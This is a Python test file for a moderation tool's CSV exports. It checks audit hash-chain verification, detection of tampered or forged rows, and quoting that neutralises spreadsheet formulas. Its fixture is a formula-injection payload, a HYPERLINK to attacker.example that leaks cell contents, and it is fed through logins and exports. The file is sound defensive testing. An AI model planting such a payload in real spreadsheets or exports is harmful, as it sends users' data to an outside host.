"""The audit export carries the chain's head, so a copy can be checked later; and no CSV redline
writes lets a cell run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from redline import banks
from redline.actions import referrals
from redline.metrics import report
from redline.model.base import utcnow
from redline.spreadsheet import FORMULA_STARTS, quote_cell, unquote_cell
from redline.store import audit
from redline.store.audit import record_event
from redline.web.app import create_app
from tests.conftest import CliResult
from tests.review_desk import Desk
from tests.web.test_console import sign_in

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def _export(desk: Desk, query: str = "") -> tuple[str, str]:
    """/audit.csv as an auditor downloads it, and its head header."""
    client = TestClient(create_app(desk.settings), follow_redirects=False)
    sign_in(client, "aud1")
    response = client.get(f"/audit.csv{query}")
    assert response.status_code == 200
    return response.text, response.headers["x-audit-chain-head"]


def _live(desk: Desk) -> audit.ChainCheck:
    with desk.engine.connect() as connection:
        return audit.verify(connection)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _write(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def test_a_username_formula_comes_out_neutralised_in_the_audit_export(desk: Desk) -> None:
    client = TestClient(create_app(desk.settings), follow_redirects=False)
    form = client.get("/login").text
    token = re.search(r'name="csrf" value="([^"]+)"', form)
    assert token is not None
    client.post("/login", data={"username": FORMULA, "password": "x", "csrf": token.group(1)})
    with desk.engine.begin() as connection:
        record_event(connection, FORMULA, "check", "case", "-2+3", detail={"note": FORMULA})
    text, _ = _export(desk)
    cells = [cell for row in _cells(text) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + FORMULA in cells and "'-2+3" in cells  # the actor, and the subject id
    assert "'" + FORMULA.lower() in cells  # the refused login's subject (lower-cased username)
    assert audit.verify_export(text).broken is None  # and the hashes still check


def test_a_downloaded_copy_verifies_and_names_the_live_head(
    desk: Desk, tmp_path: Path, cli: Callable[..., CliResult]
) -> None:
    text, header = _export(desk)
    live = _live(desk)
    check = audit.verify_export(text)
    assert check.broken is None and live.broken is None
    assert (check.head_id, check.head_sha256) == (live.head_id, live.head_sha256)
    assert header == f"{live.head_id} {live.head_sha256}"
    assert _cells(text)[-1][0] == "# chain head"
    copy = tmp_path / "audit.csv"
    copy.write_text(text, encoding="utf-8")
    checked = cli("audit", "verify", "--export", str(copy))
    assert checked.code == 0 and live.head_sha256 in checked.out, checked.err
    report_ = json.loads(cli("audit", "verify", "--export", str(copy), "--json").out)
    assert report_["head"] == {"id": live.head_id, "sha256": live.head_sha256}
    # The copy's head, checked against the live trail later on (after more events).
    assert cli("audit", "verify", "--head", f"{live.head_id}:{live.head_sha256}").code == 0


def test_a_filtered_copy_verifies_event_by_event(desk: Desk) -> None:
    text, _ = _export(desk, "?action=user.add")
    rows = _cells(text)
    assert len(rows) == 2 + 5 and "filtered=yes" in rows[-1]
    assert audit.verify_export(text).broken is None
    rows[3][2] = "user:someone"
    broken = audit.verify_export(_write(rows)).broken
    assert broken is not None and broken.event_id == int(rows[3][0])


def test_a_tampered_copy_is_named(
    desk: Desk, tmp_path: Path, cli: Callable[..., CliResult]
) -> None:
    text, _ = _export(desk)
    rows = _cells(text)  # header, events newest first, head line
    events = rows[1:-1]
    middle = events[len(events) // 2]

    altered = [r if r is not middle else [*r[:2], "user:someone", *r[3:]] for r in rows]
    broken = audit.verify_export(_write(altered)).broken
    assert broken is not None and broken.event_id == int(middle[0])
    assert "altered" in broken.reason

    deleted = [r for r in rows if r is not middle]
    broken = audit.verify_export(_write(deleted)).broken
    assert broken is not None and broken.event_id == int(middle[0]) + 1
    assert "deleted" in broken.reason

    newest_deleted = [r for r in rows if r is not events[0]]
    broken = audit.verify_export(_write(newest_deleted)).broken
    assert broken is not None and "newest events were deleted" in broken.reason

    # A forged event, well hashed and chained to its predecessor, slipped in after event 2.
    second = dict(zip(audit.EXPORT_COLUMNS, events[-2], strict=True))
    forged = {
        "id": int(second["id"]) + 1,
        "at": utcnow() - timedelta(days=1),
        "actor": "user:x",
        "action": "case.decide",
        "subject_type": "case",
        "subject_id": "1",
        "before": None,
        "after": None,
        "detail": None,
        "prev_sha256": second["sha256"],
    }
    forged_row = [
        str(forged["id"]),
        forged["at"].isoformat(),
        "user:x",
        "case.decide",
        "case",
        "1",
        "",
        "",
        "",
        second["sha256"],
        audit.event_sha256(forged),
    ]
    shifted = []  # renumber the later events, as a forger making room would have to
    for row in rows[1:-1]:
        if int(row[0]) > int(second["id"]):
            row = [str(int(row[0]) + 1), *row[1:]]
        shifted.append(row)
    inserted = [rows[0], *shifted, forged_row, rows[-1]]
    broken = audit.verify_export(_write(inserted)).broken
    assert broken is not None  # renumbered events no longer hash: the first one is named
    assert broken.event_id is not None and broken.event_id > int(second["id"])

    # A forged newest event, well chained, but after the head the copy was exported with.
    newest = dict(zip(audit.EXPORT_COLUMNS, events[0], strict=True))
    appended = {**forged, "id": int(newest["id"]) + 1, "prev_sha256": newest["sha256"]}
    appended_row = [
        str(appended["id"]),
        *forged_row[1:9],
        newest["sha256"],
        audit.event_sha256(appended),
    ]
    broken = audit.verify_export(_write([rows[0], appended_row, *rows[1:]])).broken
    assert broken is not None and broken.event_id == appended["id"]
    assert "after the chain head" in broken.reason

    copy = tmp_path / "tampered.csv"
    copy.write_text(_write(altered), encoding="utf-8")
    result = cli("audit", "verify", "--export", str(copy))
    assert result.code == 1 and f"event {middle[0]}" in result.err
    copy.write_text("id,at\n1,2\n", encoding="utf-8")
    assert cli("audit", "verify", "--export", str(copy)).code == 2


def test_bank_exports_quote_formulas_and_read_them_back(desk: Desk, tmp_path: Path) -> None:
    engine = desk.engine
    with engine.begin() as connection:
        banks.create_bank(connection, "formulas", actor="t", now=utcnow())
    with engine.begin() as connection:
        banks.add_entry(
            connection,
            "formulas",
            {"md5": "1" * 32},
            actor="t",
            category="-recruitment",
            tags="@tag",
            note=FORMULA,
            now=utcnow(),
        )
    with engine.connect() as connection:
        exported = banks.export_bank(connection, "formulas", "csv")
    cells = [c for row in _cells(exported.decode()) for c in row]
    assert "'" + FORMULA in cells and "'-recruitment" in cells and "'@tag" in cells
    path = tmp_path / "formulas.csv"
    path.write_bytes(exported)
    with engine.begin() as connection:
        banks.create_bank(connection, "copy", actor="t", now=utcnow())
    with engine.begin() as connection:
        assert banks.import_file(connection, "copy", path, actor="t", now=utcnow()).added == 1

    def labels(data: bytes) -> list[list[str]]:  # every column but added_at
        return [row[:5] + row[6:] for row in _cells(data.decode())]

    # Read back as the labels they were, not with the quote: the copy exports the same.
    with engine.connect() as connection:
        assert labels(banks.export_bank(connection, "copy", "csv")) == labels(exported)


def test_referral_evidence_and_report_csvs_quote_formulas() -> None:
    evidence = {
        "url": "https://host.example/=x",
        "canonical_url": "https://host.example/=x",
        "category": "+category",
        "reason": FORMULA,
        "found_at": None,
        "confirmed_at": None,
        "text_sha256": None,
        "media": [],
    }
    written = referrals.evidence_csv(
        [{"id": 1, "status": "draft", "service": "@svc", "evidence": evidence}]
    )
    row = _cells(written)[1]
    assert (
        row[0] == "1" and row[2] == "'@svc" and row[5] == "'+category" and row[6] == "'" + FORMULA
    )
    figures = {
        "orders": {"received": -3, FORMULA: 1},
        "referrals_by_service": [{"service": FORMULA, "sent": 1}],
    }
    rows = _cells(report.render(figures, "csv").decode())
    assert ["orders", "received", "-3"] in rows  # a number stays a number
    assert ["orders", "'" + FORMULA, "1"] in rows
    assert rows[-1][1] == "'" + FORMULA


@given(st.text())
def test_quoting_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    quoted = quote_cell(text)
    assert isinstance(quoted, str) and not quoted.startswith(FORMULA_STARTS)
    assert unquote_cell(quoted) == text
